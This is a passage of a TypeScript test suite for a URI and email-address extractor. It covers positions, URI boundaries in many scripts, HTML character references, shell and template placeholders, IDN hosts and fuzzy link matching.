          for (let k = from; k < to; k++) if (view[k] === 0x0a) naive++;
          expect(countLf(view, from, to)).toBe(naive);
        },
      ),
      { numRuns: 500 },
    );
  });

  test("every record's line and column are those of its start, on long and short lines, any chunking", async () => {
    const fc = (await import("fast-check")).default;
    // long LF-free stretches (the tracker then skips to the next LF) and short lines
    const piece = fc.oneof(
      fc.constantFrom("http://a.example/x ", "<http://b.example/y> ", "\n", "\n\n", "word "),
      fc.integer({ min: 100, max: 3000 }).map((k) => "z".repeat(k)),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), fc.nat(), (pieces, cut) => {
        const bytes = Buffer.from(pieces.join(""));
        const check = (found: Array<{ start: number; line: number; column: number }>) => {
          for (const f of found) {
            const before = bytes.subarray(0, f.start);
            let line = 1;
            for (const b of before) if (b === 0x0a) line++;
            expect([f.line, f.column]).toEqual([
              line,
              f.start - (before.lastIndexOf(0x0a) + 1) + 1,
            ]);
          }
        };
        check(extractText(bytes));
        const k = bytes.length ? cut % bytes.length : 0;
        const found: Array<{ start: number; line: number; column: number }> = [];
        const scanner = new TextScanner({}, (f) => found.push(f));
        scanner.push(bytes.subarray(0, k));
        scanner.pushLast(bytes.subarray(k));
        check(found);
      }),
      { numRuns: 300 },
    );
  });

  test("countLf: only line feeds, far past one counter flush (a byte counter never wraps)", async () => {
    const { countLf } = await import("../../src/extract/positions.js");
    const lfs = new Uint8Array(10_003).fill(0x0a);
    expect(countLf(lfs, 0, lfs.length)).toBe(10_003);
    expect(countLf(lfs, 1, 9_999)).toBe(9_998);
    const mixed = new Uint8Array(8_192).map((_, i) => (i % 3 === 0 ? 0x0a : 0x8a));
    expect(countLf(mixed, 0, mixed.length)).toBe(Math.ceil(8_192 / 3));
  });
});

describe("the end of a bare URI in other scripts and escaped text", () => {
  test("a symbol, emoji or punctuation glued to an ASCII host ends it (RFC 5892: no such label)", () => {
    expect(uris("http://example.com™ rocks")).toEqual(["http://example.com"]);
    expect(uris("Visit http://example.com🎉 now")).toEqual(["http://example.com"]);
    expect(uris("http://example.com، وغيره")).toEqual(["http://example.com"]);
    // a label that starts with a symbol is a name of its own; letters go on in IDN hosts
    expect(uris("http://✪df.ws/123 and http://☺.damowmow.com/")).toEqual([
      "http://✪df.ws/123",
      "http://☺.damowmow.com/",
    ]);
    expect(uris("http://münchen.de/ü and http://ñandú.example/")).toEqual([
      "http://münchen.de/ü",
      "http://ñandú.example/",
    ]);
  });

  test("'=', '+', '$', '&' glued to a host are the text's (twitter-text)", () => {
    expect(uris("text http://example.com= and http://example.com+ x http://a.example&")).toEqual([
      "http://example.com",
      "http://example.com",
      "http://a.example",
    ]);
    // a reg-name of another scheme may end with them (RFC 3986 §3.2.2)
    expect(uris("foo://a+b+ smb://fileserver$")).toEqual(["foo://a+b+", "smb://fileserver$"]);
    // after a path or in a query they stay
    expect(uris("http://a.example/x= http://a.example/?q=1&")).toEqual([
      "http://a.example/x=",
      "http://a.example/?q=1&",
    ]);
  });

  test("a word of a script without spaces right before scheme:// ends the URI after it", () => {
    expect(uris("http://t.co/abcde한국http://b.example/ テストhttp://c.example/x")).toEqual([
      "http://t.co/abcde한국",
      "http://b.example/",
      "http://c.example/x",
    ]);
    // in a query a value may hold a URI
    expect(uris("http://x.example/?q=東京http://y.example/")).toEqual([
      "http://x.example/?q=東京http://y.example/",
    ]);
    expectAtEverySplit("http://t.co/a한국http://b.example/", [
      "http://t.co/a한국",
      "http://b.example/",
    ]);
  });

  test("a '*' glued to a host is a footnote mark; a wildcard label stays", () => {
    expect(
      uris("see https://example.org* for it, https://*.example.org/ and http://x.example/*"),
    ).toEqual(["https://example.org", "https://*.example.org/", "http://x.example/*"]);
  });

  test("a host cut at an apostrophe: the search goes on after it, the cut is the host's", () => {
    // "https://a.com'https://b.com" is two URIs (Rust linkify), read once each (linear)
    expect(uris("https://a.com'https://b.com")).toEqual(["https://a.com", "https://b.com"]);
    expect(uris(`${"http://a'(http://a'".repeat(250)} http://b.example/`)).toEqual([
      ...Array(500).fill("http://a"),
      "http://b.example/",
    ]);
    expectAtEverySplit("http://a.example'http://b.example/'x http://u'v@c.example/", [
      "http://a.example",
      "http://b.example/'x",
      "http://u'v@c.example/",
    ]);
    // the cut does not depend on what comes later in the path
    expect(uris("http://example.com's/a가 x http://example.com's/a™ y")).toEqual([
      "http://example.com",
      "http://example.com",
    ]);
  });

  test("IDNA2008 CONTEXTO characters stay in a host: Catalan l·l", () => {
    expect(uris("see http://col·legi.cat/ now")).toEqual(["http://col·legi.cat/"]);
  });

  test("an apostrophe in the host ends it; in the userinfo or the path it stays", () => {
    expect(uris("http://example.com's homepage")).toEqual(["http://example.com"]);
    expect(uris("see http://example.org'/> here")).toEqual(["http://example.org"]);
    expect(uris("https://en.wikipedia.org/wiki/McDonald's")).toEqual([
      "https://en.wikipedia.org/wiki/McDonald's",
    ]);
    expect(uris("http://o'neil@example.com/")).toEqual(["http://o'neil@example.com/"]);
  });

  test("non-ASCII sentence punctuation at the end is dropped, as . and , are", () => {
    expect(uris("رابط http://example.com/a، وغيره")).toEqual(["http://example.com/a"]);
    expect(uris("देखें http://example.com/a।")).toEqual(["http://example.com/a"]);
    expect(uris("http://example.com/a؟ http://example.com/b።")).toEqual([
      "http://example.com/a",
      "http://example.com/b",
    ]);
    // inside the path it stays, and "¡" opens a sentence rather than ending one
    expect(uris("http://example.com/a،b http://example.org/¡")).toEqual([
      "http://example.com/a،b",
      "http://example.org/¡",
    ]);
  });

  test("a character reference to a delimiter at the end is escaped text, not the URI", () => {
    expect(uris("&lt;http://example.com/a&gt;")).toEqual(["http://example.com/a"]);
    expect(uris("&quot;http://example.com/a&quot;.")).toEqual(["http://example.com/a"]);
    expect(uris("http://example.com/a&#62; http://example.com/b&#x3E;")).toEqual([
      "http://example.com/a",
      "http://example.com/b",
    ]);
    // other names are query text: & and ; are URI characters
    expect(uris("http://example.com/?q=x&hl; http://example.com/?a=1&ampb=2")).toEqual([
      "http://example.com/?q=x&hl",
      "http://example.com/?a=1&ampb=2",
    ]);
  });

  test("a reference to & in escaped markup is the &: uri has it, raw the text as written", () => {
    const f = one('<a href="http://example.com/?a=1&amp;b=2">x</a>');
    expect(f.uri).toBe("http://example.com/?a=1&b=2");
    expect(f.raw).toBe('"http://example.com/?a=1&amp;b=2"');
    // WordPress feeds write &#038;; hex, HTML's &AMP;, inside <…> and across a line break
    expect(
      uris(
        "http://e.com/?a&#038;b&#38;c&#x26;d&#X0026;e&AMP;f <http://e.com/p?x=1&amp;\n y=2> http://e.com/?a&amp;amp;b",
      ),
      // (escaped twice, a feed's escaped HTML: "&amp;amp;" is "&", session 32)
    ).toEqual(["http://e.com/?a&b&c&d&e&f", "http://e.com/p?x=1&y=2", "http://e.com/?a&b"]);
    // numeric references to other URI characters too: an obfuscated address, a "/"
    expect(
      uris('<a href="mailto:nas&#37;&#52;&#48;debian&#46;org"> href="http://e.com/a&#x2F;b"'),
    ).toEqual(["mailto:nas%40debian.org", "http://e.com/a/b"]);
    // any number of leading zeros; a reading that would make the URI invalid is not taken
    expect(uris("http://e.com/?a&#0000000038;b")).toEqual(["http://e.com/?a&b"]);
    // — unless as written the reference's "#" starts the fragment: then the reading is the
    // referenced text's, invalid here (a port "x") as git's "ssh://&#91;user@&#93;host…"
    expect(uris('<a href="http://a.example&#58;x/">x</a>')).toEqual([]);
    expect(
      extractText(
        'href="http://a.example&#58;x/" git clone ssh://&#91;user@&#93;host.xz&#91;:port&#93;/repo.git/',
        { includeInvalid: true },
      ).map((f) => [f.uri, f.valid]),
    ).toEqual([
      ["http://a.example:x/", false],
      ["ssh://[user@]host.xz[:port]/repo.git/", false],
    ]);
    // "&#37;" is a "%", and one that starts no percent-encoding is data ("%25", raw-characters.ts)
    expect(
      uris('<a href="http://a.example/?off=100&#37;">x</a> http://a.example/?x=&#37;zz'),
    ).toEqual(["http://a.example/?off=100%", "http://a.example/?x=%zz"]);
    // not a reference to a URI character or a letter: kept as written ("&#x2603;" is a
    // snowman; "&#380;" and "&#x3b1;" are the letters ż and α, an IRI's, below)
    // (one to a control ends the URI: "&#x0A;" is escaped markup's line break, MediaWiki)
    expect(uris("http://e.com/?a&#x2;y")).toEqual(["http://e.com/?a"]);
    expect(uris("http://e.com/?a&Amp;b&#39x&#x2603;y&#380;z&#x3b1;&amp")).toEqual([
      "http://e.com/?a&Amp;b&#39x&#x2603;yżzα&amp",
    ]);
  });

  test("a reference to a letter is the letter, an IRI's (HTML hunt: Apache's French manual, 'http://cet-h&ocirc;te/chemin')", () => {
    const text =
      '<p>http://cet-h&ocirc;te/chemin</p> <a href="http://x.example/caf&#233;">x</a> ' +
      "https://x.example/caf&#233; https://x.example/&#x4E2D;&#x6587; https://b&uuml;cher.example/ " +
      "https://x.example/&Eacute;t&eacute;. https://x.example/a&nbsp;b https://x.example/x&trade; " +
      "https://x.example/?q=a&hl; https://x.example/&eacutex https://x.example/&#8203;b " +
      // escaped twice (a feed's escaped HTML): "&amp;quot;" ends the URI as "&quot;" does
      "&amp;lt;a href=&amp;quot;https://f.example/dbl&amp;quot;&amp;gt;x&amp;lt;/a&amp;gt;";
    expect(extractText(text).map((f) => [f.uri, f.normalized])).toEqual([
      ["http://cet-hôte/chemin", "http://xn--cet-hte-x0a/chemin"],
      ["http://x.example/café", "http://x.example/caf%C3%A9"],
      ["https://x.example/café", "https://x.example/caf%C3%A9"],
      ["https://x.example/中文", "https://x.example/%E4%B8%AD%E6%96%87"],
      ["https://bücher.example/", "https://xn--bcher-kva.example/"],
      ["https://x.example/Été", "https://x.example/%C3%89t%C3%A9"],
      ["https://x.example/a", "https://x.example/a"],
      ["https://x.example/x", "https://x.example/x"],
      ["https://x.example/?q=a&hl", "https://x.example/?q=a&hl"],
      ["https://x.example/&eacutex", "https://x.example/&eacutex"],
      ["https://x.example/", "https://x.example/"],
      ["https://f.example/dbl", "https://f.example/dbl"],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a reference to punctuation at the end is the text's, whole (found in real text)", () => {
    expect(
      uris(
        "see https://a.example/x&hellip; more, https://a.example/y&rdquo; and https://a.example/z&mdash;",
      ),
    ).toEqual(["https://a.example/x", "https://a.example/y", "https://a.example/z"]);
  });

  test("a reference to a space or a delimiter ends the URI wherever it is (rinku, Autolinker)", () => {
    expect(uris("http://example.com/&nbsp;and http://example.org/a&NBSP;&nbsp;Next")).toEqual([
      "http://example.com/",
      "http://example.org/a",
    ]);
    expect(uris("http://e.com/a&quot;b http://e.com/c&lt;d http://e.com/e&gt;f")).toEqual([
      "http://e.com/a",
      "http://e.com/c",
      "http://e.com/e",
    ]);
    // names are case-sensitive: mixed case is no reference ("&Gt;" is "≫"), at the end either
    expect(uris("http://e.com/a&gT;b http://e.com/#c=&Gt; then")).toEqual([
      "http://e.com/a&gT;b",
      "http://e.com/#c=&Gt",
    ]);
    expect(uris("http://e.com/&#160;x http://e.com/&#xA0;y http://e.com/&#32;z")).toEqual([
      "http://e.com/",
      "http://e.com/",
      "http://e.com/",
    ]);
    // in the host an apostrophe's reference ends it, as the apostrophe does; in the path
    // it stays, and so do references to URI characters and unknown names
    expect(uris("http://example.com&#39;s blog, http://example.org&apos;s")).toEqual([
      "http://example.com",
      "http://example.org",
    ]);
    // and the typographic apostrophe's (U+2019), in a host and a mailto domain
    expect(
      uris(
        "http://example.com&rsquo;s blog, http://example.net&#8217;s mailto:a@example.org&rsquo;s",
      ),
    ).toEqual(["http://example.com", "http://example.net", "mailto:a@example.org"]);
    // (the record's uri has the character a numeric reference stands for)
    expect(uris("http://e.com/it&#39;s http://e.com/?q=a&lt=5 http://e.com/?a&")).toEqual([
      "http://e.com/it's",
      "http://e.com/?q=a&lt=5",
      "http://e.com/?a&",
    ]);
  });

  test("an apostrophe's reference in the userinfo stays, as the apostrophe does", () => {
    expect(uris("see http://o&#39;brien@example.com/x and http://o'brien@example.com/y")).toEqual([
      "http://o'brien@example.com/x",
      "http://o'brien@example.com/y",
    ]);
    expect(uris("http://o&#39;brien@example.com&#x27;s")).toEqual(["http://o'brien@example.com"]);
  });

  test("the rest of an over-long URI ends at a reference too: the next URI is found", () => {
    const text = `see http://x.example/${"a".repeat(9000)}&nbsp;http://example.com/next ok`;
    expect(uris(text)).toEqual(["http://example.com/next"]);
    for (const k of [8000, 9018, 9020, 9022, 9025]) {
      const found: string[] = [];
      const scanner = new TextScanner({}, (f) => found.push(f.uri));
      scanner.push(Buffer.from(text.slice(0, k)));
      scanner.pushLast(Buffer.from(text.slice(k)));
      expect(found).toEqual(["http://example.com/next"]);
    }
  });

  test("a reference split across chunks is read whole", () => {
    const text = "see http://example.com/a&nbsp;b and http://example.com/c&amp;d ok";
    const whole = uris(text);
    expect(whole).toEqual(["http://example.com/a", "http://example.com/c&d"]);
    for (let k = 1; k < text.length; k++) {
      const found: string[] = [];
      const scanner = new TextScanner({}, (f) => found.push(f.uri));
      scanner.push(Buffer.from(text.slice(0, k)));
      scanner.pushLast(Buffer.from(text.slice(k)));
      expect(found).toEqual(whole);
    }
  });
});

describe("single quotes", () => {
  test("an apostrophe inside a word does not close the quote", () => {
    expect(uris("'http://example.com/it's'")).toEqual(["http://example.com/it's"]);
    expect(uris("['http://a.example/x','http://b.example/y']")).toEqual([
      "http://a.example/x",
      "http://b.example/y",
    ]);
  });
});

describe("words with a registered scheme's colon in code and markup", () => {
  test("the scheme's own syntax decides: pop (RFC 2384), content, blob (File API)", () => {
    expect(
      uris("(r'#pop:2', Name) <content:encoded><![CDATA[x]]></content:encoded> --filter=blob:none"),
    ).toEqual([]);
    expect(
      uris(
        "pop://rg@mail.example <content://com.android.contacts/1> blob:https://e.example/40a5fb5a-d56d",
      ),
    ).toEqual([
      "pop://rg@mail.example",
      "content://com.android.contacts/1",
      "blob:https://e.example/40a5fb5a-d56d",
    ]);
  });

  test("a JDBC URL is read whole, from jdbc: (JDBC 4.3 §9.4)", () => {
    expect(
      uris(
        'url = jdbc:mysql://localhost/jetty value="jdbc:sqlserver://h:1433;databaseName=x" ' +
          "jdbc:oracle:thin:@//db.example:1521/svc, <jdbc:h2:mem:test> jdbc:x jdbc: no",
      ),
    ).toEqual([
      "jdbc:mysql://localhost/jetty",
      "jdbc:sqlserver://h:1433;databaseName=x",
      "jdbc:oracle:thin:@//db.example:1521/svc",
      "jdbc:h2:mem:test",
    ]);
    expectAtEverySplit("x jdbc:postgresql://h/db y", ["jdbc:postgresql://h/db"]);
    // a driver named in prose is no URL
    expect(uris("use jdbc:postgresql: or jdbc:a:")).toEqual([]);
  });

  test("a shell parameter's default is no scheme; a C comment glued around a URI is not its", () => {
    expect(uris('"${SFTP:-ssh}" ${PORT:=8080} ${URL:-http://x.example/}')).toEqual([
      "http://x.example/",
    ]);
    expect(uris("/*http://x.org/license.txt*/ http://x.org/a*/b **http://x.org/c**")).toEqual([
      "http://x.org/license.txt",
      "http://x.org/a*/b",
      "http://x.org/c",
    ]);
  });

  test("a shell variable or command for the host is a template, not a URI (found in real text)", () => {
    expect(
      uris("deb https://$HOST/pub/repos/apt main; curl http://$(hostname):8080/ ws://$ADDR"),
    ).toEqual([]);
    // a userinfo's "$" is the userinfo's
    expect(uris("see ftp://$a@ftp.example.org/")).toEqual(["ftp://$a@ftp.example.org/"]);
    // quoted or in parentheses too, and Perl's "$_" and positional "$2" (review 20a: Perl's
    // URI::Heuristic and HTML::TextToHTML, rolldown's `new URL('ws://$ADDR')`)
    expect(
      uris(
        'my $u = "http://$_"; s{..}{<A HREF="ftp://$2/$4">}; curl "https://$HOST/api"\n' +
          "new URL('ws://$ADDR') URL(ws://$ADDR) curl http://$1/api",
      ),
    ).toEqual([]);
    // a variable that is only part of the host, or a userinfo's: the quoted URI stays
    expect(
      extractText('"https://$HOST.example.com/a" "ftp://$a@example.org/"').map((f) => [
        f.uri,
        f.delimiter,
      ]),
    ).toEqual([
      ["https://$HOST.example.com/a", "quote"],
      ["ftp://$a@example.org/", "quote"],
    ]);
    expect(uris('see ftp://$a\'b@example.org/x "http://$user:$pass@example.com/"')).toEqual([
      "ftp://$a'b@example.org/x",
      "http://$user:$pass@example.com/",
    ]);
    expectRecordsAtEverySplit(
      'x "http://$_" y \'ws://$A\' (ws://$B) "https://$H.x/a" ftp://$a\'b@h.x/ z',
    );
  });

  test("a word and a hyphen glued before http(s):// are the text's (found in real text)", () => {
    expect(
      uris("data from Cricsheet-http://cricsheet.org and arrays.README-https://github.com/a/b"),
    ).toEqual(["http://cricsheet.org", "https://github.com/a/b"]);
    expect(uris("git+https://a.example/x")).toEqual(["git+https://a.example/x"]);
  });

  test("CMake's $<…> generator expressions are no angle brackets", () => {
    expect(
      uris('"$<$<BOOL:${dirs}>:-I$<JOIN:${dirs},;-I>>" $<CONFIG:Debug,RelWithDebInfo>'),
    ).toEqual([]);
    // the URI in one is still found, under the bare rules
    expect(uris("$<http://a.example/>")).toEqual(["http://a.example/"]);
  });
});

describe("hosts: what a DNS name holds (RFC 1034 §3.5, RFC 1123 §2.1, RFC 5892)", () => {
  test("a symbol inside a label is kept when the label goes on; glued after the name, not", () => {
    expect(uris("http://c✶.ws and http://c✪.ws/x, http://✪df.ws/ http://example.com™ x")).toEqual([
      "http://c✶.ws",
      "http://c✪.ws/x",
      "http://✪df.ws/",
      "http://example.com",
    ]);
    expect(uris("http://example.com🎉.")).toEqual(["http://example.com"]);
    // the label must go on with "." and a lowercase label: no second host, no sentence
    expect(
      uris("http://example.com→www.example.org http://a.com✓b.com http://example.com™.Next"),
    ).toEqual(["http://example.com", "http://a.com", "http://example.com"]);
    expectAtEverySplit("x http://c✶.ws y http://example.com™ z", [
      "http://c✶.ws",
      "http://example.com",
    ]);
  });

  test('"[" after a name is text: it opens an IP literal only after "//" or "@" (RFC 3986 §3.2.2)', () => {
    expect(uris("(http://example.org[1]) etc. http://[::1]/a http://u@[::1]/")).toEqual([
      "http://example.org",
      "http://[::1]/a",
      "http://u@[::1]/",
    ]);
    // in the path it is a raw bracket (read percent-encoded, raw-characters.ts) — but a
    // "[n]" that ends the path is a footnote's mark (session 41)
    expect(uris("http://example.org/a[b] http://example.org/a[1]")).toEqual([
      "http://example.org/a[b]",
      "http://example.org/a",
    ]);
  });

  test('a DNS host ends at "(", a port at its first non-digit (RFC 1123 §2.1, RFC 3986 §3.2.3)', () => {
    // kitty's detect_url: "http://moo.com" before any of "{}([<>"
    expect(uris("http://moo.com( Visit http://example.com(the official site) now")).toEqual([
      "http://moo.com",
      "http://example.com",
    ]);
    // the search goes on after the "(": a second URI in it is found
    expectAtEverySplit("http://example.com(http://mirror.example/) http://u(x)(y)@h.example/", [
      "http://example.com",
      "http://mirror.example/",
      "http://u(x)(y)@h.example/",
    ]);
    // a log line's port glued to text: the URI was dropped as bad-port before
    expectAtEverySplit("Serving at http://0.0.0.0:8080(http) and http://localhost:3000-dev.", [
      "http://0.0.0.0:8080",
      "http://localhost:3000",
    ]);
    expect(uris("https://[2001:db8::1]:443(x) http://h.example:80x/")).toEqual([
      "https://[2001:db8::1]:443",
      "http://h.example:80",
    ]);
    // a userinfo may hold both; a placeholder port with no digit stays one invalid URI
    expect(uris("http://u(1):p4ss@h.example/ ftp://u:pw@h.example:21/")).toEqual([
      "http://u(1):p4ss@h.example/",
      "ftp://u:pw@h.example:21/",
    ]);
    expect(extractText("http://host:port/path", { includeInvalid: true })[0]).toMatchObject({
      uri: "http://host:port/path",
      valid: false,
    });
    // a terminal colour inside the port is passed over (Vite); other schemes keep reg-names
    expect(uris("http://localhost:\x1b[1m5173\x1b[22m/ foo://h(1):8/x")).toEqual([
      "http://localhost:5173/",
      "foo://h(1):8/x",
    ]);
  });

  test("without an authority a \"[\" after a name is the text's: a footnote mark, a link's text", () => {
    // RFC 8141 §2 has no "[" in an NSS; RFC 6068 none unencoded in an address
    expectAtEverySplit("Write to mailto:a@example.org[1]. See urn:isbn:0451450523[3].", [
      "mailto:a@example.org",
      "urn:isbn:0451450523",
    ]);
    expect(uris("(mailto:a@example.org[1]) news:comp.lang.python[2]")).toEqual([
      "mailto:a@example.org",
      "news:comp.lang.python",
    ]);
    // nor a "(" in a mailto address (RFC 5322 §3.2.3: no atext); in the query it stays
    expectAtEverySplit("mailto:a@example.org(preferred) mailto:b@example.org?subject=Hi%20(x)", [
      "mailto:a@example.org",
      "mailto:b@example.org?subject=Hi%20(x)",
    ]);
    // nor a "/" after its domain (RFC 6068 §2); in the query or the fragment it stays
    expectAtEverySplit("mailto:a@example.org/ mailto:b@x.org,c@y.org/z mailto:d@x.org#e/f", [
      "mailto:a@example.org",
      "mailto:b@x.org,c@y.org",
      "mailto:d@x.org#e/f",
    ]);
    // in a query it is raw data, read percent-encoded (raw-characters.ts)
    // right after a ":" it opens a placeholder: no URI at all
    expect(uris("the URN urn:alert:source:[some-unknown-alert-ind-part].  So")).toEqual([]);
    const f = extractText("mailto:list@example.org?subject=[PATCH] fix")[0]!;
    expect([f.uri, f.normalized]).toEqual([
      "mailto:list@example.org?subject=[PATCH]",
      "mailto:list@example.org?subject=%5BPATCH%5D",
    ]);
  });

  test("an ideographic full stop between host labels is a dot (RFC 3490 §3.1), at the end the sentence's", () => {
    // rspamd's url.lua cases
    const found = extractText(
      "http://example\u3002com#test http://hehe\uff61example\u3002com#test",
    );
    expect(found.map((f) => [f.uri, f.normalized])).toEqual([
      ["http://example\u3002com#test", "http://example.com/#test"],
      ["http://hehe\uff61example\u3002com#test", "http://hehe.example.com/#test"],
    ]);
    expectAtEverySplit(
      "見てhttp://日本\u3002jp/。そしてhttp://example.com\u3002 http://a.example\uff0eOrg",
      ["http://日本\u3002jp/", "http://example.com", "http://a.example"],
    );
    // only when ASCII labels follow it up to the host's end: before a number or a word it
    // is the sentence's full stop
    expectAtEverySplit(
      "详见http://example.com\u30022024年起 地址是http://192.168.1.1\u30022. 输入",
      ["http://example.com", "http://192.168.1.1"],
    );
    expect(uris("访问 https://github.com\u3002github是 see http://localhost\u30021. next")).toEqual(
      ["https://github.com", "http://localhost"],
    );
    // a host written with them throughout ends at whitespace, the input's end or its own
    // full stop; a date, a time or another URI after one is the sentence's
    expectAtEverySplit(
      "http://日本\u3002jp サイト https://www\u3002google\u3002com\u3002 http://日本\u3002jp",
      ["http://日本\u3002jp", "https://www\u3002google\u3002com", "http://日本\u3002jp"],
    );
    expect(
      uris("详见http://example.com\u30022024/03/01起 会場：http://example.jp\u300210:00開始"),
    ).toEqual(["http://example.com", "http://example.jp"]);
    expect(
      uris("参见http://a.example.com\u3002https://b.example.com 见http://x.example\u3002Q:问题"),
    ).toEqual(["http://a.example.com", "https://b.example.com", "http://x.example"]);
  });

  test("in a host only troff's and JSON's backslash escapes are read", () => {
    // a Windows path glued to the host (rspamd's url.lua): "_" would make another host
    expect(uris("https://example.com\\_Resources\\ClientImages\\UserData?ol\\o#ololo\\")).toEqual([
      "https://example.com",
    ]);
    expect(uris("https://util\\-linux.example\\.org/a\\_b https:\\/\\/h.example\\/x")).toEqual([
      "https://util-linux.example.org/a_b",
      "https://h.example/x",
    ]);
    // a Markdown escape in a name that goes on, or in a userinfo, is read
    expectAtEverySplit("https://my\\_bucket.s3.example.com/x ftp://user\\@host.example/ ok", [
      "https://my_bucket.s3.example.com/x",
      "ftp://user@host.example/",
    ]);
    expect(uris("https://www.my\\_site\\_name.example/ ftp://john.doe\\@localhost/")).toEqual([
      "https://www.my_site_name.example/",
      "ftp://john.doe@localhost/",
    ]);
    // what the look past an escape reads may end with a backslash at a chunk's end
    expectAtEverySplit("http://a.b.c\\?\\.h.example?x ok", ["http://a.b.c?.h.example?x"]);
    expectAtEverySplit("https://s3.example.com\\?cc\\_h.example ok", [
      "https://s3.example.com?cc_h.example",
    ]);
  });

  test('a "{…}" balanced after the authority is kept (a template\'s variable, a wiki title)', () => {
    expectAtEverySplit("see http://en.wikipedia.org/wiki/Sprite_{computer_graphics}, or", [
      "http://en.wikipedia.org/wiki/Sprite_{computer_graphics}",
    ]);
    // (a "{{…}}" is a template's placeholder: session 34, bare-templates.ts)
    const found = extractText("GET https://api.example.com/users/{user}/repos?x={id} now");
    expect(found.map((f) => [f.uri, f.normalized])).toEqual([
      [
        "https://api.example.com/users/{user}/repos?x={id}",
        "https://api.example.com/users/%7Buser%7D/repos?x=%7Bid%7D",
      ],
    ]);
    // one that nothing closes, or that holds a space or a quote, ends the URI; "${" is a
    // placeholder's; not in the host
    expect(
      uris("http://x.org/a{b c} http://x.org/d{'e'} https://x.org${path} http://x{y}.org/"),
    ).toEqual(["http://x.org/a", "http://x.org/d", "https://x.org", "http://x"]);
  });

  test('a "[" that nothing closes is text, not the URI\'s', () => {
    // kitty's detect_url; AsciiDoc-like "URL[text]" with a space in the text
    expectAtEverySplit("http://[::1]:8080/x[ see https://github.com/foo/bar[the repo] ok", [
      "http://[::1]:8080/x",
      "https://github.com/foo/bar",
    ]);
    expect(uris("http://x.org/a[1]b[2 http://x.org/?q[a]=[1]&r[")).toEqual([
      "http://x.org/a[1]b",
      "http://x.org/?q[a]=[1]&r",
    ]);
  });

  test("a hyphen that ends a host is the text's dash; in a path it stays", () => {
    expect(uris("http://example.org- where http://ex-ample.org-- http://example.org/a-")).toEqual([
      "http://example.org",
      "http://ex-ample.org",
      "http://example.org/a-",
    ]);
    expect(uris("http://example.org:8080-")).toEqual(["http://example.org:8080"]);
    // at a line break the hyphen is kept, and the host goes on on the next line (2396bis
    // App. E)
    expect(uris("see https://www.ecma-\ninternational.org")).toEqual([
      "https://www.ecma-international.org",
    ]);
  });

  test("long runs cost linear time", () => {
    const t0 = performance.now();
    const text = `http://a.b${"-".repeat(50)} `.repeat(20000) + `http://a${"-".repeat(1 << 18)} `;
    expect(extractText(text, { maxLength: 1 << 20 })).toHaveLength(20001);
    expect(performance.now() - t0).toBeLessThan(2000);
  });
});

describe("fuzzy: linkify-it's matches trimmed to the link", () => {
  test("an opening bracket or quote before an address is the text's", () => {
    // linkify-it reads an address only after a space, "(", "<", ">" or '"'
    for (const t of [
      "[foo@example.com]",
      "“foo@example.com”",
      "«foo@example.com»",
      "‘foo@example.com’",
      // groff's brackets around a man page's .MT address on a UTF-8 terminal (0 of 215 found)
      "⟨foo@example.com⟩",
    ])
      expect(uris(t, { fuzzy: true })).toEqual(["mailto:foo@example.com"]);
    // an internationalized local part; inside another opener; the marks of other languages
    for (const t of ["[élan@a.co]", '"[a@b.co]"', "“«a@b.co»”", "»a@b.co«", "‚a@b.co‘"])
      expect(uris(t, { fuzzy: true }), t).toEqual([
        t.includes("é") ? "mailto:élan@a.co" : "mailto:a@b.co",
      ]);
    // not inside a word
    expect(uris("a[foo@example.com]", { fuzzy: true })).toEqual([]);
  });
  test("emphasis or braces around an address are not its", () => {
    const f = { fuzzy: true };
    expect(
      uris("**me@example.com** ~~hello@email.com~~ {john@mozilla.org} _x@example.com", f),
    ).toEqual([
      "mailto:me@example.com",
      "mailto:hello@email.com",
      "mailto:john@mozilla.org",
      "mailto:_x@example.com",
    ]);
    // inside a local part they stay (RFC 5322 atext)
    expect(uris("a*b@example.com", f)).toEqual(["mailto:a*b@example.com"]);
  });

  test("a schemeless link ends where a scheme'd one does: before ` { } | and a lone ^", () => {
    const f = { fuzzy: true };
    expect(uris("google.com/a|b example.com/?q=dj!`x x.org/a.{ y.org/a^ b z.org/a^b", f)).toEqual([
      "http://google.com/a",
      "http://example.com/?q=dj",
      "http://x.org/a",
      "http://y.org/a",
      "http://z.org/a^b",
    ]);
    // … and goes on where a scheme'd one does: balanced braces, an apostrophe in a path
    expect(uris("x.org/a.{b} example.org/'_(foo) www.example.com/a{b}c", f)).toEqual([
      "http://x.org/a.{b}",
      "http://example.org/'_(foo)",
      "http://www.example.com/a{b}c",
    ]);
    // trailing punctuation after a "/" is the sentence's, as after a scheme'd URI
    expect(uris("example.org/: (example.org/.) www.example.org/a_(b).", f)).toEqual([
      "http://example.org/",
      "http://example.org/",
      "http://www.example.org/a_(b)",
    ]);
    // past the host the match is linkify-it's: "example.com@about" is no userinfo, and a
    // name glued to "@" and a word no link at all (Rust linkify)
    expect(uris("example.com@about example.com/@about", f)).toEqual(["http://example.com/@about"]);
    // a placeholder's "$" goes with it, and its segment (in a path "=" ends none: session
    // 44); "&amp;" is "&" (raw keeps it)
    const found = extractText("github.com/a/b=${V} www.example.com/?a=1&amp;b=2", f);
    expect(found.map((x) => [x.uri, x.raw])).toEqual([
      ["http://github.com/a/", "github.com/a/"],
      ["http://www.example.com/?a=1&b=2", "www.example.com/?a=1&amp;b=2"],
    ]);
    // troff's "\\-" is no end: such a link stays invalid, unreported; JSON's "\\/" outside a
    // JSON string ends it, as it ends "http://example.com/a\\/b"
    expect(uris("gcr.io/ucaip\\-test/x example.com/a\\/b", f)).toEqual(["http://example.com/a"]);
  });

  const fuzzy = (text: string) =>
    extractText(text, { fuzzy: true }).map((f) => [f.uri, f.raw, f.start, f.end]);

  test("a comma or semicolon before an address separates it (Rust linkify, HTML-escaped text)", () => {
    const f = { fuzzy: true };
    expect(uris(",a@example.com, and a@xy.com;b@xy.com,c@xy.com", f)).toEqual([
      "mailto:a@example.com",
      "mailto:a@xy.com",
      "mailto:b@xy.com",
      "mailto:c@xy.com",
    ]);
    expect(uris("From: Jane &lt;jane@example.com&gt;", f)).toEqual(["mailto:jane@example.com"]);
    expect(uris("www.a.example.com,www.b.example.com", f)).toEqual([
      "http://www.a.example.com",
      "http://www.b.example.com",
    ]);
    // in a path or query they stay
    expect(uris("example.com/?a=1,b@c.com x", f)).toEqual(["http://example.com/?a=1,b@c.com"]);
  });

  test("a dash, a leading dot: not inside a local part, not at a line's start", () => {
    const f = { fuzzy: true };
    expect(uris("foo-@example.com a-_b@example.com x-+y@example.com", f)).toEqual([
